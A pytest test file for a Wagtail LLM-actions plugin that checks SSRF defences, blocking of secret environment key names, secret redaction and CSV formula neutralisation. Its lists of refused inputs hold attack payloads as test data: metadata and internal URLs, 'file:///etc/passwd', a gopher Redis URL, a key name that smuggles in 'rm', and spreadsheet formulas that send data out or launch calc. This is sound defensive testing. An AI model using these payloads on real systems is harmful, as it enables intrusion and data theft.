"""Provider security: which keys an action may name, where it may send them, what is stored.

A matrix of refused and allowed key names and API bases, checked at the admin form, at
``LLMAction.clean()`` and at call time (against the fake server, which must never receive a
server secret); CSV formulas; and the error paths that used to give a 500 or raw HTML.
"""

from __future__ import annotations

import csv
import io
import json
import socket
from decimal import Decimal

import pytest
from django.conf import settings
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone

from tests.fakeserver import FakeLLMServer
from tests.interactions_factory import make_one
from tests.queued import finish_queued
from tests.test_admin_snippets import ACTION_ADD, action_data, form_errors
from wagtail_llm_actions.exceptions import ConfigurationProblem, LLMActionError
from wagtail_llm_actions.models import LLMAction, LLMInteraction, LLMPrompt
from wagtail_llm_actions.providers import CompletionRequest, build_request, complete
from wagtail_llm_actions.providers.base import REDACTED
from wagtail_llm_actions.providers.policy import (
    PolicyError,
    check_api_base,
    check_extra_params,
    check_key_name,
)
from wagtail_llm_actions.service import LLMService

pytestmark = pytest.mark.django_db

#: Server secrets set in the environment of every test here; no request may carry them.
CANARIES = {
    "DATABASE_URL": "postgres://canary-db-user:canary-db-password@db.internal/site",
    "SECRET_KEY": "canary-django-secret-key-0001",
    "DJANGO_SECRET_KEY": "canary-django-secret-key-0002",
    "AWS_SECRET_ACCESS_KEY": "canary-aws-secret-0003",
}

PUBLIC_IP = "93.184.216.34"
#: Host names the fake resolver answers: name -> addresses.
FAKE_DNS = {
    "llm.example.com": [PUBLIC_IP],
    "loopback.example.com": ["127.0.0.1"],
    "metadata.example.com": ["169.254.169.254"],
    "mixed.example.com": [PUBLIC_IP, "10.0.0.7"],
    "v6loop.example.com": ["::1"],
    "gpu.internal.evil.com": ["10.9.8.7"],
}


@pytest.fixture(autouse=True)
def canaries(monkeypatch):
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    return CANARIES


@pytest.fixture
def fake_dns(monkeypatch):
    """``socket.getaddrinfo`` answering FAKE_DNS names (others: the real resolver)."""
    real = socket.getaddrinfo
    calls: list[str] = []

    def getaddrinfo(host, port, *args, **kwargs):
        name = host.decode() if isinstance(host, bytes) else str(host)
        if name in FAKE_DNS:
            calls.append(name)
            family = {True: socket.AF_INET6, False: socket.AF_INET}
            return [
                (family[":" in ip], socket.SOCK_STREAM, 6, "", (ip, port or 0))
                for ip in FAKE_DNS[name]
            ]
        if name.endswith(".invalid"):
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return calls


def llm_settings(**values):
    return override_settings(WAGTAIL_LLM_ACTIONS={**settings.WAGTAIL_LLM_ACTIONS, **values})


def received(server: FakeLLMServer) -> str:
    """Everything the server received (headers and bodies), as one string."""
    return json.dumps(
        [
            {"headers": dict(r["headers"]), "json": r["json"], "path": r["path"]}
            for r in server.requests
        ]
    )


def assert_no_secret_received(server: FakeLLMServer) -> None:
    text = received(server)
    for value in CANARIES.values():
        assert value not in text


def errors_of(action: LLMAction) -> dict[str, list[str]]:
    with pytest.raises(ValidationError) as info:
        action.full_clean(exclude=["prompt", "slug", "name", "target_field"])
    return info.value.message_dict


def unsaved_action(**fields) -> LLMAction:
    fields.setdefault("model", "openai/gpt-4o-mini")
    return LLMAction(name="A", slug="a", target_field="summary", **fields)


# -- key names -------------------------------------------------------------------------------

REFUSED_KEY_NAMES = [
    "DATABASE_URL",
    "SECRET_KEY",
    "DJANGO_SECRET_KEY",
    "AWS_SECRET_ACCESS_KEY",  # LiteLLM reads cloud credentials itself when the name is blank
    "OTHER_DATABASE_URL",
    "EMAIL_HOST_PASSWORD",
    "REDIS_URL",
    "PATH",
    "openai_api_key",  # patterns are case-sensitive
    "sk-abc def",
    "OPENAI_API_KEY; rm",
]
ALLOWED_KEY_NAMES = [
    "",
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "HUGGINGFACE_API_KEY",
    "FRIENDLI_TOKEN",
]


@pytest.mark.parametrize("name", REFUSED_KEY_NAMES)
def test_refused_key_names_at_clean(name):
    errors = errors_of(unsaved_action(api_key_name=name))
    assert list(errors) == ["api_key_name"]
    if name in ("DATABASE_URL", "SECRET_KEY", "DJANGO_SECRET_KEY"):
        assert "secret of this server" in errors["api_key_name"][0]


@pytest.mark.parametrize("name", ALLOWED_KEY_NAMES)
def test_allowed_key_names_at_clean(name):
    unsaved_action(api_key_name=name).clean()


def test_api_keys_entries_and_api_key_names_patterns_are_allowed():
    with llm_settings(API_KEYS={"MY_KEY": "k-123456"}, API_KEY_NAMES=["LLM_*", "EXACT_NAME"]):
        check_key_name("MY_KEY")
        check_key_name("LLM_SERVICE")
        check_key_name("EXACT_NAME")
        with pytest.raises(PolicyError):
            check_key_name("OPENAI_API_KEY")  # the list replaces the default patterns
        with pytest.raises(PolicyError):
            check_key_name("EXACT_NAME_2")
    with llm_settings(API_KEY_NAMES=["*"]):
        check_key_name("ANYTHING")
        for name in ("DATABASE_URL", "SECRET_KEY", "DJANGO_SECRET_KEY"):
            with pytest.raises(PolicyError):
                check_key_name(name)  # never, whatever the setting says


@pytest.mark.parametrize("name", ["DATABASE_URL", "DJANGO_SECRET_KEY", "SECRET_KEY", "PATH"])
def test_refused_key_name_at_call_time_sends_nothing(name, make_action, post, fake_llm):
    # Saved around validation (create() does not call clean()).
    action = make_action(
        slug="sneaky", model="openai/fake-model", api_base=fake_llm.url, api_key_name=name
    )
    with pytest.raises(LLMActionError) as info:
        LLMService().run(action, post)
    assert info.value.code == "configuration"
    assert name in info.value.message
    assert fake_llm.request_count == 0
    row = LLMInteraction.objects.get()
    assert row.status == "error" and row.error_code == "configuration"
    stored = json.dumps([row.error_message, row.parameters, row.messages, row.response_text])
    for value in CANARIES.values():
        assert value not in stored


def test_key_in_api_keys_is_read_from_there_only(monkeypatch):
    monkeypatch.setenv("EMPTY_ENTRY", "from-the-environment")
    with llm_settings(API_KEYS={"EMPTY_ENTRY": ""}):
        with pytest.raises(Exception, match="EMPTY_ENTRY is not set"):
            build_request(unsaved_action(api_key_name="EMPTY_ENTRY"), [])


# -- API bases -------------------------------------------------------------------------------

REFUSED_API_BASES = [
    "http://127.0.0.1:11434",
    "https://127.0.0.1/v1",
    "https://127.1.2.3",
    "https://[::1]/v1",
    "https://[::ffff:127.0.0.1]/v1",
    "https://[::ffff:8.8.8.8]/v1",  # IPv4-mapped, whatever it maps to
    "https://0.0.0.0/v1",
    "https://[::]/v1",
    "https://10.1.2.3/v1",
    "https://172.16.0.1/v1",
    "https://172.31.255.254/v1",
    "https://192.168.1.10/v1",
    "https://169.254.169.254/latest/meta-data",
    "http://169.254.169.254/latest/meta-data",
    "https://[fe80::1]/v1",
    "https://[fc00::1]/v1",
    "https://100.64.0.1/v1",
    "https://224.0.0.1/v1",
    "https://[ff02::1]/v1",
    "https://240.0.0.1/v1",
    "https://localhost/v1",
    "https://localhost:11434",
    "https://loopback.example.com/v1",
    "https://metadata.example.com/v1",
    "https://mixed.example.com/v1",  # one internal address is enough
    "https://v6loop.example.com/v1",
    "http://llm.example.com/v1",  # public, but not https
    "ftp://llm.example.com/v1",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
]
ALLOWED_API_BASES = [
    "",
    "https://llm.example.com/v1",
    f"https://{PUBLIC_IP}/v1",
    "https://name-that-does-not-resolve.invalid/v1",  # tolerated when saving, see below
]


@pytest.mark.parametrize("url", REFUSED_API_BASES)
def test_refused_api_bases_at_check(url, fake_dns):
    with llm_settings(ALLOWED_API_BASES=[]), pytest.raises(PolicyError):
        check_api_base(url)


@pytest.mark.parametrize("url", ALLOWED_API_BASES)
def test_allowed_api_bases_at_check(url, fake_dns):
    with llm_settings(ALLOWED_API_BASES=[]):
        check_api_base(url)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:11434",
        "https://[::1]/v1",
        "https://169.254.169.254/latest/meta-data",
        "https://10.1.2.3/v1",
        "https://loopback.example.com/v1",
        "http://llm.example.com/v1",
    ],
)
def test_refused_api_bases_at_clean(url, fake_dns):
    with llm_settings(ALLOWED_API_BASES=[]):
        errors = errors_of(unsaved_action(api_base=url))
    assert "api_base" in errors


def test_internal_reason_is_named(fake_dns):
    with llm_settings(ALLOWED_API_BASES=[]):
        with pytest.raises(PolicyError, match="link-local"):
            check_api_base("https://169.254.169.254/")
        with pytest.raises(PolicyError, match="loopback"):
            check_api_base("https://loopback.example.com/v1")
        with pytest.raises(PolicyError, match="IPv4-mapped"):
            check_api_base("https://[::ffff:127.0.0.1]/")
        with pytest.raises(PolicyError, match="https://"):
            check_api_base("http://llm.example.com/v1")


LISTED = ["http://localhost:11434", "http://10.0.0.5:8000/v1", "https://gpu.internal"]


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("http://localhost:11434", True),
        ("http://localhost:11434/", True),
        ("http://localhost:11434/api/chat", True),
        ("http://LOCALHOST:11434/v1", True),
        ("http://localhost:11435", False),
        ("https://localhost:11434", False),  # another scheme is another server
        ("http://localhost:11434.evil.com", False),  # not a port
        ("http://localhost:11434@evil.com/", False),  # user info, then another host
        ("http://localhost", False),  # port 80, not 11434
        ("http://10.0.0.5:8000/v1", True),
        ("http://10.0.0.5:8000/v1/chat", True),
        ("http://10.0.0.5:8000/v10", False),  # a whole path segment, not a string prefix
        ("http://10.0.0.5:8000/", False),
        ("http://10.0.0.5:8001/v1", False),
        ("https://gpu.internal", True),
        ("https://gpu.internal:443/v1", True),
        ("https://gpu.internal:8443/v1", False),
        ("https://gpu.internal.evil.com/v1", False),
    ],
)
def test_allowed_api_bases_setting_compares_scheme_host_port_and_path(url, allowed, fake_dns):
    with llm_settings(ALLOWED_API_BASES=LISTED):
        if allowed:
            check_api_base(url)
        else:
            with pytest.raises(PolicyError):
                check_api_base(url)


def test_any_port_entry():
    with llm_settings(ALLOWED_API_BASES=["http://127.0.0.1:*"]):
        check_api_base("http://127.0.0.1:1234/v1")
        with pytest.raises(PolicyError):
            check_api_base("http://127.0.0.2:1234/v1")


def test_unresolvable_host_is_tolerated_on_save_but_not_at_call_time(fake_dns):
    url = "https://name-that-does-not-resolve.invalid/v1"
    with llm_settings(ALLOWED_API_BASES=[]):
        check_api_base(url)
        with pytest.raises(Exception, match="could not be resolved"):
            check_api_base(url, at_call=True)


# -- extra parameters ------------------------------------------------------------------------

REFUSED_EXTRA = [
    {"headers": {"Authorization": "Bearer sk-abcdefgh"}},
    {"extra_headers": {"X-Api-Key": "sk-abcdefgh"}},
    {"api_key": "sk-abcdefgh"},
    {"base_url": "http://169.254.169.254"},
    {"api_base": "http://169.254.169.254"},
    {"access_token": "x"},
    {"aws_secret_access_key": "x"},
    {"client_secret": "x"},
    {"password": "x"},
    {"auth": "x"},
    {"vertex_credentials": "x"},
    {"apiKey": "x"},
    {"extra_body": {"nested": {"api_key": "x"}}},
]
ALLOWED_EXTRA = [
    {},
    {"top_p": 0.9},
    {"max_completion_tokens": 200},
    {"response_format": {"type": "json_object"}},
    {"top_k": 40, "stop": ["a"]},
    {"seed": 7, "presence_penalty": 0.5, "frequency_penalty": -0.5},
    {"logit_bias": {"50256": -100}, "reasoning_effort": "low"},
]


@pytest.mark.parametrize("params", REFUSED_EXTRA)
def test_refused_extra_params_at_clean(params):
    errors = errors_of(unsaved_action(extra_params=params))
    assert "extra_params" in errors


@pytest.mark.parametrize("params", ALLOWED_EXTRA)
def test_allowed_extra_params_at_clean(params):
    unsaved_action(extra_params=params).clean()
    check_extra_params(params)


def test_extra_params_with_headers_saved_around_validation_send_nothing(
    make_action, post, fake_llm, api_key_env
):
    action = make_action(
        slug="headers",
        model="openai/fake-model",
        api_base=fake_llm.url,
        api_key_name=api_key_env,
        extra_params={"extra_headers": {"X-Db": CANARIES["DATABASE_URL"]}},
    )
    with pytest.raises(LLMActionError) as info:
        LLMService().run(action, post)
    assert info.value.code == "configuration"
    assert fake_llm.request_count == 0


# -- the admin form (a superuser, so that only these rules decide) ---------------------------


@pytest.fixture
def admin_client(client, superuser):
    client.force_login(superuser)
    return client


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"api_key_name": "DATABASE_URL"}, "api_key_name"),
        ({"api_key_name": "DJANGO_SECRET_KEY"}, "api_key_name"),
        ({"api_key_name": "SECRET_KEY"}, "api_key_name"),
        ({"api_key_name": "AWS_SECRET_ACCESS_KEY"}, "api_key_name"),
        ({"api_base": "http://169.254.169.254/latest"}, "api_base"),
        ({"api_base": "https://[::1]/v1"}, "api_base"),
        ({"api_base": "https://10.0.0.1/v1"}, "api_base"),
        ({"api_base": "https://loopback.example.com/v1"}, "api_base"),
        ({"api_base": "http://llm.example.com/v1"}, "api_base"),
        ({"extra_params": '{"headers": {"Authorization": "Bearer sk-x"}}'}, "extra_params"),
        ({"extra_params": '{"client_secret": "x"}'}, "extra_params"),
    ],
)
def test_admin_form_refuses(admin_client, prompt, fake_dns, overrides, field):
    with llm_settings(ALLOWED_API_BASES=[]):
        response = admin_client.post(reverse(ACTION_ADD), action_data(prompt, **overrides))
    assert response.status_code == 200
    assert field in form_errors(response)
    assert not LLMAction.objects.exists()


@pytest.mark.parametrize(
    "overrides",
    [
        {"api_key_name": "OPENAI_API_KEY", "api_base": "https://llm.example.com/v1"},
        {"api_key_name": "", "api_base": ""},
        {"api_base": "http://localhost:11434", "model": "ollama/mistral"},
        {"extra_params": '{"top_p": 0.9}'},
    ],
)
def test_admin_form_accepts(admin_client, prompt, fake_dns, overrides):
    with llm_settings(ALLOWED_API_BASES=["http://localhost:11434"]):
        response = admin_client.post(reverse(ACTION_ADD), action_data(prompt, **overrides))
    assert response.status_code == 302, form_errors(response)
    assert LLMAction.objects.count() == 1


# -- call time -------------------------------------------------------------------------------


def test_unlisted_internal_base_is_refused_at_call_time(make_action, post, fake_llm, api_key_env):
    action = make_action(
        slug="internal", model="openai/fake-model", api_base=fake_llm.url, api_key_name=api_key_env
    )
    with llm_settings(ALLOWED_API_BASES=[]), pytest.raises(LLMActionError) as info:
        LLMService().run(action, post)
    assert info.value.code == "configuration"
    assert "loopback" in info.value.message
    assert fake_llm.request_count == 0
    assert LLMInteraction.objects.get().error_code == "configuration"


def test_dns_rebinding_to_loopback_is_refused_at_call_time(
    make_action, post, fake_llm, api_key_env, fake_dns
):
    # Saved while the name pointed at a public address; now it points at 127.0.0.1.
    url = f"https://llm.example.com:{fake_llm.port}/v1"
    action = make_action(
        slug="rebind", model="openai/fake-model", api_base=url, api_key_name=api_key_env
    )
    with llm_settings(ALLOWED_API_BASES=[]):
        action.full_clean(exclude=["prompt", "page_types"])
        FAKE_DNS["llm.example.com"] = ["127.0.0.1"]
        try:
            with pytest.raises(LLMActionError) as info:
                LLMService().run(action, post)
        finally:
            FAKE_DNS["llm.example.com"] = [PUBLIC_IP]
    assert info.value.code == "configuration"
    assert "loopback" in info.value.message
    assert fake_llm.request_count == 0


def test_dns_rebinding_between_check_and_connect_is_refused(fake_llm, fake_dns, monkeypatch):
    """The name is public when checked, loopback when the HTTP client connects."""
    answers = iter([[PUBLIC_IP]])
    real = socket.getaddrinfo

    def rebinding(host, port, *args, **kwargs):
        if host == "rebind.example.com":
            ips = next(answers, ["127.0.0.1"])
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (ip, port)) for ip in ips]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    request = CompletionRequest(
        model="openai/fake-model",
        messages=[{"role": "user", "content": "Hello"}],
        api_base=f"https://rebind.example.com:{fake_llm.port}/v1",
        api_key="sk-test-secret-123",
        timeout=5,
    )
    with llm_settings(ALLOWED_API_BASES=[]), pytest.raises(PolicyError) as info:
        complete(request)
    assert "internal addresses are refused" in str(info.value)
    assert fake_llm.request_count == 0


def test_redirect_to_another_local_port_is_not_followed(make_action, post, fake_llm, api_key_env):
    with FakeLLMServer() as other:
        fake_llm.configure(status=307, headers={"Location": f"{other.url}/chat/completions"})
        action = make_action(
            slug="redirect",
            model="openai/fake-model",
            api_base=fake_llm.url,
            api_key_name=api_key_env,
        )
        with llm_settings(ALLOWED_API_BASES=[fake_llm.url]), pytest.raises(LLMActionError) as info:
            LLMService().run(action, post)
        assert other.request_count == 0
    assert fake_llm.request_count == 1
    assert info.value.code == "configuration"
    assert "never follow redirects" in info.value.message
    assert LLMInteraction.objects.get().status == "error"


def test_a_normal_run_sends_no_server_secret(server_action, post, fake_llm):
    LLMService().run(server_action, post)
    assert fake_llm.request_count == 1
    assert fake_llm.last_request["headers"]["authorization"] == "Bearer sk-test-secret-123"
    assert_no_secret_received(fake_llm)


def test_echoed_key_is_redacted_everywhere(server_action, post, fake_llm):
    fake_llm.configure(reply="Your key is sk-test-secret-123, keep it safe.")
    interaction = LLMService().run(server_action, post)
    draft = type(post).objects.get(pk=post.pk).get_latest_revision_as_object()
    for text in (interaction.response_text, interaction.output_value, draft.summary):
        assert "sk-test-secret-123" not in text
        assert REDACTED in text
    interaction.refresh_from_db()
    assert "sk-test-secret-123" not in json.dumps(
        [interaction.response_text, interaction.output_value, interaction.parameters]
    )


def test_key_in_a_provider_error_is_redacted(server_action, post, fake_llm, caplog):
    fake_llm.configure(status=400, error_message="Bad key sk-test-secret-123 for this model")
    with pytest.raises(LLMActionError) as info:
        LLMService().run(server_action, post)
    assert "sk-test-secret-123" not in info.value.message
    assert "sk-test-secret-123" not in LLMInteraction.objects.get().error_message
    assert "sk-test-secret-123" not in caplog.text


def test_internal_error_body_is_short_and_without_markup(server_action, post, fake_llm):
    body = "<html><body><h1>Internal</h1><pre>" + "stack trace line\n" * 200 + "</pre></body>"
    fake_llm.configure(status=400, error_message=body)
    with pytest.raises(LLMActionError):
        LLMService().run(server_action, post)
    message = LLMInteraction.objects.get().error_message
    assert "<" not in message
    assert "stack trace" not in message
    assert len(message) < 400


def test_long_error_text_is_capped(server_action, post, fake_llm):
    fake_llm.configure(status=400, error_message="internal detail " * 100)
    with pytest.raises(LLMActionError):
        LLMService().run(server_action, post)
    message = LLMInteraction.objects.get().error_message
    assert "internal detail" in message
    assert len(message) < 400


# -- CSV export ------------------------------------------------------------------------------

REPORT_URL = "/admin/llm-actions/report/"


def csv_rows(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_look_like_formulas_are_neutralised(
    admin_client, post, action, django_user_model, title
):
    post.title = title
    post.save()
    user = django_user_model.objects.create_user("u", first_name="=cmd()", last_name="")
    make_one(action=action, page=post, user=user, action_name="+action", cost=Decimal("0"))
    response = admin_client.get(REPORT_URL + "?export=csv")
    (row,) = csv_rows(response)
    assert row["Page"] == "'" + title
    assert row["User"] == "'=cmd()"
    assert row["Action"] == "'+action"
    assert row["Cost (USD)"] == "0"


def test_csv_plain_cells_are_unchanged(admin_client, post, action):
    make_one(action=action, page=post, cost=Decimal("0.00123"))
    (row,) = csv_rows(admin_client.get(REPORT_URL + "?export=csv"))
    assert row["Page"] == post.title
    assert row["Action"] == action.name
    assert Decimal(row["Cost (USD)"]) == Decimal("0.00123")


# -- error paths -----------------------------------------------------------------------------


@pytest.fixture
def broken_prompt(db):
    # Created in code: clean() never ran, and no revision exists.
    return LLMPrompt.objects.create(name="Broken", slug="broken", template="{body.__class__}")


def test_bad_prompt_without_revision_is_a_recorded_configuration_problem(
    make_action, broken_prompt, post
):
    action = make_action(slug="broken", prompt=broken_prompt)
    with pytest.raises(ConfigurationProblem) as info:
        LLMService().run(action, post)
    row = LLMInteraction.objects.get()
    assert row.status == "error" and row.error_code == "configuration"
    assert row.error_message == info.value.message
    assert "__class__" in info.value.message or "attribute" in info.value.message.lower()


def test_try_on_a_page_with_a_bad_prompt_shows_a_message(
    client, superuser, make_action, broken_prompt, post
):
    action = make_action(slug="broken", prompt=broken_prompt)
    client.force_login(superuser)
    response = client.post(
        reverse("wagtail_llm_actions_report:try", args=[action.pk]), {"page": post.pk}
    )
    response = finish_queued(client, response)  # queued: the error comes when it has run
    assert response.status_code == 302
    messages = [str(m) for m in get_messages(response.wsgi_request)]
    assert messages and "__class__" in messages[0]
    assert LLMInteraction.objects.get().error_code == "configuration"
    page = client.get(response["Location"])
    assert page.status_code == 200


def test_admin_screens_list_a_bad_prompt(client, superuser, make_action, broken_prompt):
    action = make_action(slug="broken", prompt=broken_prompt)
    client.force_login(superuser)
    for name, args in [
        ("wagtailsnippets_wagtail_llm_actions_llmprompt:list", []),
        ("wagtailsnippets_wagtail_llm_actions_llmprompt:edit", [broken_prompt.pk]),
        ("wagtailsnippets_wagtail_llm_actions_llmaction:edit", [action.pk]),
        ("wagtail_llm_actions_report:action", [action.pk]),
    ]:
        assert client.get(reverse(name, args=args)).status_code == 200, name


def run_url(page, action):
    return reverse("wagtail_llm_actions_editor:run", args=[page.pk, action.pk])


@pytest.mark.parametrize("data", [{}, {"title": "Only a title"}, {"body-count": "x"}])
def test_malformed_post_to_the_run_endpoint_is_a_json_400(editor, post, action, data):
    client = Client()
    client.force_login(editor)
    response = client.post(run_url(post, action), data)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["message"]
    assert "<" not in response.json()["message"]


def test_too_large_form_is_a_json_413(editor, post, action):
    client = Client()
    client.force_login(editor)
    response = client.post(run_url(post, action), {"title": "x" * (3 * 1024 * 1024)})
    assert response.status_code == 413
    assert response["Content-Type"] == "application/json"
    assert "too large" in response.json()["message"]


def test_too_many_fields_is_a_json_413(editor, post, action):
    client = Client()
    client.force_login(editor)
    data = {f"field-{i}": "x" for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 10)}
    response = client.post(run_url(post, action), data)
    assert response.status_code == 413
    assert response.json()["code"] == "too_large"


def test_too_large_form_is_a_json_413_with_csrf_enforced(editor, post, action):
    # As in a browser: the CSRF middleware would read the body first and answer HTML 400.
    client = Client(enforce_csrf_checks=True)
    client.force_login(editor)
    client.get(reverse("wagtailadmin_pages:edit", args=[post.pk]))
    token = client.cookies["csrftoken"].value
    response = client.post(
        run_url(post, action), {"title": "x" * (3 * 1024 * 1024)}, headers={"X-CSRFToken": token}
    )
    assert response.status_code == 413
    assert response.json()["code"] == "too_large"


def test_run_endpoint_still_checks_csrf(editor, post, action):
    client = Client(enforce_csrf_checks=True)
    client.force_login(editor)
    response = client.post(run_url(post, action), {"title": "x"})
    assert response.status_code == 403
    assert not LLMInteraction.objects.exists()


def test_lock_message_has_no_markup(editor, superuser, post, action):
    post.locked, post.locked_by, post.locked_at = True, superuser, timezone.now()
    post.save()
    client = Client()
    client.force_login(editor)
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[post.pk]))
    assert edit.status_code == 200
    from wagtail.test.utils.form_data import querydict_from_html

    data = querydict_from_html(edit.content.decode(), form_id="page-edit-form")
    response = client.post(run_url(post, action), data)
    assert response.status_code == 409
    message = response.json()["message"]
    assert "locked" in message.lower()
    assert "<" not in message and "&" not in message


def test_html_answer_is_a_bad_response(server_action, post, fake_llm):
    fake_llm.configure(html="<!doctype html><html><body><h1>Sign in</h1></body></html>")
    with pytest.raises(LLMActionError) as info:
        LLMService().run(server_action, post)
    assert info.value.code == "bad_response"
    assert "HTML page, not JSON" in info.value.message
    assert "500" not in info.value.message
    row = LLMInteraction.objects.get()
    assert row.error_code == "bad_response" and "<" not in row.error_message


# -- system checks ---------------------------------------------------------------------------


def test_system_check_reports_unusable_policy_settings(settings):
    from wagtail_llm_actions.checks import check_settings

    settings.WAGTAIL_LLM_ACTIONS = {
        "ALLOWED_API_BASES": ["localhost:11434", "http://127.0.0.1:*"],
        "API_KEY_NAMES": "*_API_KEY",
    }
    messages = {m.id: m.msg for m in check_settings(None)}
    assert "localhost:11434" in messages["wagtail_llm_actions.W010"]
    assert "127.0.0.1" not in messages["wagtail_llm_actions.W010"]
    assert "wagtail_llm_actions.E010" in messages


def test_other_site_secrets_in_an_answer_are_redacted(server_action, post, fake_llm, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai-site-key-999")
    with override_settings(SECRET_KEY="tests-secret-key-long-enough"):
        fake_llm.configure(
            reply=f"db={CANARIES['DATABASE_URL']} openai=sk-openai-site-key-999 "
            "django=tests-secret-key-long-enough"
        )
        interaction = LLMService().run(server_action, post)
    text = interaction.response_text
    for secret in (CANARIES["DATABASE_URL"], "sk-openai-site-key-999", "tests-secret-key-long"):
        assert secret not in text
    assert text.count(REDACTED) == 3


def test_sandbox_settings_read_allowed_api_bases_from_the_environment(monkeypatch):
    import importlib

    import demo.settings

    monkeypatch.setenv(
        "LLM_ACTIONS_ALLOWED_API_BASES", "http://localhost:11434, http://127.0.0.1:8080/v1,"
    )
    monkeypatch.setenv("LLM_ACTIONS_API_BASE", "http://192.168.1.5:11434")
    try:
        module = importlib.reload(demo.settings)
        assert module.WAGTAIL_LLM_ACTIONS["ALLOWED_API_BASES"] == [
            "http://localhost:11434",
            "http://127.0.0.1:8080/v1",
            "http://192.168.1.5:11434",
        ]
        monkeypatch.delenv("LLM_ACTIONS_ALLOWED_API_BASES")
        monkeypatch.delenv("LLM_ACTIONS_API_BASE")
        assert importlib.reload(demo.settings).WAGTAIL_LLM_ACTIONS["ALLOWED_API_BASES"] == []
    finally:
        importlib.reload(demo.settings)


def test_sandbox_settings_read_extra_api_key_names_from_the_environment(monkeypatch):
    import importlib

    import demo.settings

    monkeypatch.setenv("LLM_ACTIONS_EXTRA_API_KEY_NAMES", "MY_GATEWAY_KEY, TEAM_*_KEY,")
    monkeypatch.setenv("LLM_ACTIONS_API_KEY_NAME", "DEMO_LLM_KEY")
    try:
        module = importlib.reload(demo.settings)
        assert module.WAGTAIL_LLM_ACTIONS["EXTRA_API_KEY_NAMES"] == [
            "MY_GATEWAY_KEY",
            "TEAM_*_KEY",
            "DEMO_LLM_KEY",
        ]
        monkeypatch.delenv("LLM_ACTIONS_EXTRA_API_KEY_NAMES")
        monkeypatch.delenv("LLM_ACTIONS_API_KEY_NAME")
        assert importlib.reload(demo.settings).WAGTAIL_LLM_ACTIONS["EXTRA_API_KEY_NAMES"] == []
    finally:
        importlib.reload(demo.settings)


def test_azure_api_version_is_an_ordinary_extra_parameter():
    unsaved_action(model="azure/my-deployment", extra_params={"api_version": "2024-02-01"}).clean()
